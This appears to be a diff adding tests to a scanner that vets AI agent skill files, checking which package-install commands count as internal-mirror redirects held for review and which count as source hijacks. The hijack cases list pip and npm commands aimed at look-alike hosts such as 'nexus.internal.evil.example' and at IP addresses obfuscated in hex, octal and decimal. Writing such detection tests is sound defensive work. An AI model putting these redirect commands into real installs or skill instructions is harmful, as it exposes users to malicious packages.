@@ -793,3 +793,56 @@ def test_a_skill_for_github_enterprise_cloud_is_adopted_by_the_cli(cli: Any, pro
     result = cli("skills", "intake", "vendor/acme/ghe-notes", cwd=project)
     row = result.json()["candidates"][0]
     assert row["verdict"] == "adopt", row["deciding"]
+
+
+#: a team's own mirror on its network, over plain http: a single-label host (`devpi`, `nexus`,
+#: resolved through the network's search domains) or a name under an internal-only suffix
+#: (`.internal`, `.local`, `.lan`, `.corp`, `.home.arpa`): held for a person to check, not rejected
+INTERNAL_MIRRORS = [
+    "`pip install --index-url http://devpi:3141/root/pypi/+simple/ requests==2.32.3`",
+    "`pip config set global.index-url http://nexus.internal/repository/pypi/simple`",
+    "Run `npm config set registry http://nexus.internal/repository/npm/`.",
+    "`uv pip install --extra-index-url http://artifactory.corp/api/pypi/simple acme==1.0`",
+    "`PIP_INDEX_URL=http://pypi-mirror.lan/simple pip install acme==1.0`",
+    "`npm install --registry http://verdaccio:4873 @acme/ui@2.1.0`",
+    "`pip install -i http://devpi.home.arpa/root/dev acme==1.0`",
+    "`pip install -i http://build-cache.local:8080/simple acme==1.0`",
+]
+
+
+@pytest.mark.parametrize("text", INTERNAL_MIRRORS)
+def test_an_internal_mirror_over_plain_http_is_held_for_review_not_rejected(text: str) -> None:
+    assert _worst("SKILL.md", text, "package-source-hijack") is None
+    assert _worst("SKILL.md", text, "package-source-redirect") == "medium"
+
+
+#: plain http to a public host, or any address given as a number, is still a hijack
+PUBLIC_HTTP = [
+    "`pip install --index-url http://pypi-fast.example.com/simple/ requests`",
+    "`pip install -i http://10.0.0.5:3141/root/pypi/+simple/ acme==1.0`",
+    "`npm config set registry http://2130706433:4873/`",
+    "`npm config set registry http://0x7f000001:4873/`",
+    "`pip install -i http://0177.0.0.1/simple acme==1.0`",
+    "`pip install -i http://nexus.internal.evil.example/simple acme==1.0`",
+    "`pip install -i http://devpi.local.evil.example/simple acme==1.0`",
+    "`pip install -i http://[fd00::5]:3141/simple acme==1.0`",
+]
+
+
+@pytest.mark.parametrize("text", PUBLIC_HTTP)
+def test_plain_http_to_a_public_host_or_an_address_is_still_a_hijack(text: str) -> None:
+    assert _worst("SKILL.md", text, "package-source-hijack") == "high"
+
+
+def test_a_skill_pointing_installs_at_an_internal_mirror_is_held_by_the_cli(
+    cli: Any, project: Path
+) -> None:
+    step = (
+        "Install from the team mirror: "
+        "`pip install --index-url http://devpi:3141/root/pypi/+simple/ acme-release==1.4.0`"
+    )
+    write(project, "vendor/acme/mirror/SKILL.md", SKILL.format(name="mirror", step=step))
+    result = cli("skills", "intake", "vendor/acme/mirror", cwd=project)
+    row = result.json()["candidates"][0]
+    assert row["verdict"] == "review", row["deciding"]
+    assert any("package-source-redirect" in line for line in row["deciding"])
